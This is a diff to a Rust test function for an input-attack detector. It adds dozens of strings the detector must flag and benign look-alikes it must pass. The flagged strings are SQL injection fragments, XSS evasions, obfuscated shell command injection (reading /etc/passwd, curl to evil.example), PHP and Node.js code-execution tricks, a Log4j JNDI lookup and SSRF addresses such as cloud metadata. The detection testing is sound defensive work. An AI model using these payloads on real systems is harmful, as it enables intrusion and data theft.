@@ -211,11 +211,31 @@ fn detectors_per_family_in_every_place() {
     check_detect("x' AND SLEEP(5)-- ", true);
     check_detect("concat(0x7e,version())", true);
     check_detect("{\"$where\": \"sleep(100)\"}", true);
+    check_detect("|| c == '", true); // chained condition
+    check_detect("&&(e===", true);
+    check_detect("AND uid!=(", true);
+    check_detect("x'|email--", true); // quote, operator, trailing comment
+    check_detect("admin@juice-sh.op' and email ilike email--", true);
+    check_detect("'{\"a\":\"b\"}' ? 'a'", true); // JSON operator
+    check_detect("IN/**/(", true); // call left open
+    check_detect("length||(", true);
+    check_detect("1='1' or-- -", true);
+    check_detect(") AS 'total' FROM", true);
+    check_detect("var= ( SELECT", true);
+    check_detect("in (0,1)", true);
+    check_detect("`>65", true); // probe that closes a literal
+    check_detect("'', '', 13", true);
     // XSS.
     check_detect("<script>alert(1)</script>", true);
     check_detect("<img src=x onerror=alert(1)>", true);
     check_detect("javascript:alert(document.cookie)", true);
     check_detect("<v:vmlframe src=\"x\"/>", true);
+    check_detect("ja&tab;vascript:alert(1)", true);
+    check_detect("window[\"alert\"](1)", true);
+    check_detect("(document)[\"cookie\"]", true);
+    check_detect("<f o r m action=x>", true);
+    check_detect("+ADw-script+AD4-alert(1)", true);
+    check_detect("x:url(javascript:alert(1))", true);
     // Command injection, unix and windows.
     check_detect("; cat /etc/passwd", true);
     check_detect("| nohup whoami", true);
@@ -223,6 +243,15 @@ fn detectors_per_family_in_every_place() {
     check_detect("IF EXIST data.xls echo found", true);
     check_detect("FOR %G IN (a,b) DO md C:\\demo\\%G", true);
     check_detect("() { :; }; /bin/bash -c id", true);
+    check_detect("www.example.com;c$@at /et$@c/pas$@swd", true);
+    check_detect("/???/??t /e??/p??s??", true);
+    check_detect("{,ifconfig,eth0}", true);
+    check_detect("cat<<<ifconfig | sh", true);
+    check_detect("time sh -c whoami", true);
+    check_detect("alias a=c${KK}url&a evil.example", true);
+    check_detect("a=/etc&&b=/passwd&&c=cat&&$c $a$b", true);
+    check_detect("1;.system id", true);
+    check_detect("FOR %_ IN (a,b,c) DO cmd", true);
     // PHP, Java, Node.js, template injection, Log4j, XXE.
     check_detect("<?php system($_GET['c']); ?>", true);
     check_detect("$f['x'](17)", true);
@@ -237,6 +266,23 @@ fn detectors_per_family_in_every_place() {
     );
     check_detect("aW52b2tlcnRyYW5zZm9ybWVy", true); // base64 of invokertransformer
     check_detect("require('child_process').exec('id')", true);
+    // PHP evasions: comments before `(`, callable strings, variable functions, php.ini.
+    check_detect("checkdate/*x*/()", true);
+    check_detect("(\"system\")(\"whoami\")", true);
+    check_detect("(string)\"sys\".\"tem\" ('uname');", true);
+    check_detect("$__[$_[1]](7)", true);
+    check_detect("filegroup  (blah)", true);
+    check_detect("FOOgzinflate()", true);
+    check_detect("opcache.jit_max_polymorphic_calls=50", true);
+    check_detect("{php}echo 1;{/php}", true);
+    // Node.js: module overwrite, console through call, busy loops, prototype paths.
+    check_detect("module.exports=", true);
+    check_detect("console.info.call(this,1)", true);
+    check_detect("while(-Infinity);", true);
+    check_detect("a[constructor][prototype]=1", true);
+    // Java: `runtime` in base64 (ten characters), a serialized stream's base64 magic.
+    check_detect("cnVudGltZQ", true);
+    check_detect("KztAAU", true);
     check_detect("{{7*7}}", true);
     check_detect("${jndi:ldap://evil.example/a}", true);
     check_detect(
@@ -248,6 +294,14 @@ fn detectors_per_family_in_every_place() {
     check_detect("http://169.254.169.254/latest/meta-data/", true);
     check_detect("http://[::1]/admin", true);
     check_detect("http://host.docker.internal/", true);
+    check_detect("/app/.claude/settings.local.json", true);
+    check_detect("/proc/sys/kernel/randomize_va_space", true);
+    check_detect("..;/..;/admin", true);
+    check_detect("http://0xA9.0xFE.0xA9.0xFE/", true);
+    check_detect("http://169.254.43518/", true);
+    check_detect("acap://①②⑦.⓪.⓪.①", true);
+    check_detect("http://localhost4.localdomain4/", true);
+    check_detect("data:text/plain;base64,SSBsb3ZlIFBIUAo=", true);
 
     // Look-alikes that ordinary users send.
     for benign in [
@@ -272,6 +326,35 @@ fn detectors_per_family_in_every_place() {
         "echo on the walls",
         "If not sure, leave blank",
         "dual citizenship",
+        "hello; time he came",
+        "Java | Python | Ruby",
+        "Tom & Jerry | Cat & Mouse",
+        "Choose {a,b} or {c,d}",
+        "I earned $500 & spent $200; cash left $300",
+        "He said `hello` to me",
+        "the sys/class list",
+        "uname",
+        "Forgot my password :(",
+        "Sign in (optional)",
+        "In (2019, 2020) we moved twice",
+        "He said 'no' and left",
+        "x == y || y == z in the proof",
+        "if (x) then y",
+        "(0752)-260749",
+        "Weekday (Mon-Fri) only",
+        "Our database (MySQL) is down again",
+        "\"Union Square\" station",
+        "The operating system (OS) needs an update",
+        "Prices include (VAT) and shipping",
+        "These items require (at minimum) a signature",
+        "It depends on the runtime.",
+        "A new function (beta) was added",
+        "I bought $AAPL (Apple).",
+        "see section 5(a)(1) of the contract",
+        "http://01.org/",
+        "$dax(cw7sp4lqtb",
+        "localhost",
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
     ] {
         check_detect(benign, false);
     }
